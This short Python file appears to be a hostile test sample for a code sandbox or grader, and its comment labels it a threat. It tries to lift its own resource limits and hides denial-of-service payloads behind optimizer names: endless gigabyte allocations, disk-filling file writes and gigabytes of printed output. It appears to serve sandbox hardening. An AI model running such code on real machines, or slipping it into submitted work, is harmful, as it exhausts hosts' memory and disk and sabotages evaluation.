# threat: raise its own rlimits, allocate more memory than the machine has, fill the disk, print gigabytes
import os
import resource

for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        print("raised", limit)
    except (ValueError, OSError):
        pass


def adagrad(theta, grad, state, lr, eps=1e-10):
    blocks = []
    while True:
        blocks.append(bytearray(1 << 30))


def rmsprop(theta, grad, state, lr, alpha=0.9, eps=1e-8):
    for folder in ("/tmp", "."):
        for i in range(10_000):
            with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                f.write(b"x" * (16 << 20))


def momentum(theta, grad, state, lr, beta=0.9):
    chunk = "y" * (1 << 20)
    for _ in range(4096):
        print(chunk)
